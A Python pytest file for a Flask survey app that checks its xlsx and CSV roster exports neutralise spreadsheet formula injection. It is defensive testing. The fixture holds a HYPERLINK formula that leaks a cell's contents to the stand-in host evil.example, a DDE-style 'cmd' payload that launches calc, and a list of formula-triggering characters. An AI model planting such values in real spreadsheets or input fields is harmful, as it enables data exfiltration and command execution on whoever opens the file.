"""Whatever somebody typed, a spreadsheet that we hand out shows it and runs nothing."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import openpyxl
import pytest
from county import County
from flask import Flask
from walking import ask
from whole_county import Whole

from survey.services.roster import enterprises

EVIL = '=HYPERLINK("https://evil.example?"&A1,"点这里")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def poisoned(whole: Whole) -> Whole:
    """An enterprise, its contact, a department and a task that Excel would run."""
    rows = [
        SimpleNamespace(
            credit_code="91130999MA99999990", name=EVIL, contact="+1+cmd|' /C calc'!A0", phone="13800000000",
            email="",
            strata={"规模": "@SUM(1)"},
        )
    ]  # fmt: skip
    whole.place.database.write(lambda s: enterprises.import_roster(s, rows, actor="管理员"))
    return whole


def formulas(content: bytes) -> list[str]:
    """Cells of a workbook that a spreadsheet program would work out or follow."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    return [str(cell.value) for cell in cells if cell.data_type == "f" or cell.hyperlink]


def running_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row if cell.startswith(STARTS) and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_check_sees_what_would_run() -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = EVIL
    out = io.BytesIO()
    book.save(out)
    assert formulas(out.getvalue()) == [EVIL]
    assert running_cells(b"a,=1+1,-3.5\n") == ["=1+1"]


def test_a_name_that_is_a_formula_stays_a_name(site: Flask, poisoned: Whole, sign_in) -> None:
    """Attack: an enterprise registers a formula as its name, and an administrator opens the export."""
    place: County = poisoned.place
    administrator = sign_in(place.administrator)
    content = administrator.get("/admin/roster.xlsx").data
    shown = [cell.value for row in openpyxl.load_workbook(io.BytesIO(content)).active for cell in row]
    assert EVIL in shown
    assert formulas(content) == []


def test_no_export_has_a_formula(site: Flask, poisoned: Whole, sign_in) -> None:
    seen = 0
    for user in poisoned.users().values():
        client = sign_in(user)
        for rule, address in poisoned.addresses(site):
            answer = ask(client, "GET", address) if "GET" in (rule.methods or ()) else None
            if answer and answer.mimetype.endswith("spreadsheetml.sheet"):
                seen += 1
                assert formulas(answer.data) == [], address
            elif answer and answer.mimetype == "text/csv":
                assert running_cells(answer.data) == [], address
    assert seen >= 4
